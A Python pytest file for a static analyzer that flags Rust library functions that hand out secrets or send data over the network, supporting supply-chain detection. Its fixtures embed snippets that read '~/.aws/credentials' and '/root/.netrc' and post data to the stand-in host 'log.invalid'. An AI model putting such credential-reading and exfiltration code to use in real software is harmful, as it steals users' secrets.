"""What public functions of a library hand out, and what that means for those who call them."""

from __future__ import annotations

import pytest

from analyzer.model import Context, Export, Exports, FactKind, Span
from analyzer.pipeline import analyze
from analyzer.rules.exported import entries
from analyzer.rules.ruleset import load_ruleset
from analyzer.rules.samples import sample_source
from analyzer.rules.schema import Sample

RULESET = load_ruleset()
READ = 'std::fs::read_to_string("/home/u/.aws/credentials").unwrap()'
SEND = 'ureq::post("https://log.invalid/x").send_string({}).ok();'


def exported(code: str, path: str = "src/lib.rs") -> list[tuple[str, str, tuple[int, ...]]]:
    sample = Sample("x", is_match=True, files=((path, code),))
    report = analyze(sample_source(sample, RULESET), ruleset=RULESET)
    return [(one.path, " ".join(one.kinds), one.data) for one in report.exports]


def test_result_that_carries_a_secret_is_exported_by_its_module_path() -> None:
    code = f"pub mod inner {{ pub fn state() -> String {{ deep() }} fn deep() -> String {{ {READ} }} }}"

    assert exported(code) == [("inner::state", "file.read", ())]


def test_parameter_that_is_sent_is_exported_by_its_position() -> None:
    code = f"pub fn note(n: u8, text: &str) {{ ship(text); }} fn ship(t: &str) {{ {SEND.format('t')} }}"

    assert exported(code) == [("note", "net.send", (1,))]


@pytest.mark.parametrize(
    ("code", "path"),
    [
        (f"fn state() -> String {{ {READ} }}", "src/lib.rs"),
        (f"pub(crate) fn state() -> String {{ {READ} }}", "src/lib.rs"),
        (f"pub fn has() -> bool {{ {READ}.is_empty() }}", "src/lib.rs"),
        (f"pub fn state() -> String {{ {READ} }} fn main() {{}}", "src/main.rs"),
        ("pub fn read(p: &str) -> String { std::fs::read_to_string(p).unwrap() }", "src/lib.rs"),
        ('pub fn read() -> String { std::fs::read_to_string("data.txt").unwrap() }', "src/lib.rs"),
        ("pub fn put(u: &str, t: &str) { ureq::post(u).send_string(t).ok(); }", "src/lib.rs"),
    ],
)
def test_what_others_cannot_call_or_what_they_choose_is_not_exported(code: str, path: str) -> None:
    assert exported(code, path) == []


def test_entries_stand_under_every_path_that_modules_may_give() -> None:
    row = Export("a::b::state", False, Span("src/lib.rs", 1), (FactKind.FILE_READ,), "/x")

    found = entries(Exports("reader", "1.0.0", False, (row,)))
    assert sorted(found) == ["reader::a::b::state", "reader::a::state", "reader::state"]
    assert found["reader::state"].subject_of(FactKind.FILE_READ) == "'/x'"


def test_function_of_a_dependency_is_a_fact_where_it_is_called() -> None:
    row = Export("state", False, Span("src/lib.rs", 1), (FactKind.FILE_READ,), "/root/.netrc")
    known = Context(exports=(Exports("reader", "1.0.0", False, (row,)),))
    code = "use reader::state as look;\npub fn run() -> String { look() }\n"
    sample = Sample("x", is_match=True, files=(("src/lib.rs", code),))
    crate = sample_source(sample, RULESET, ("reader",))
    report = analyze(crate, ruleset=RULESET, context=known)

    facts = [(one.kind, one.subject, one.api) for one in report.facts]
    assert (FactKind.FILE_READ, "/root/.netrc", "reader::state") in facts
    assert [one.path for one in report.exports] == ["run"]
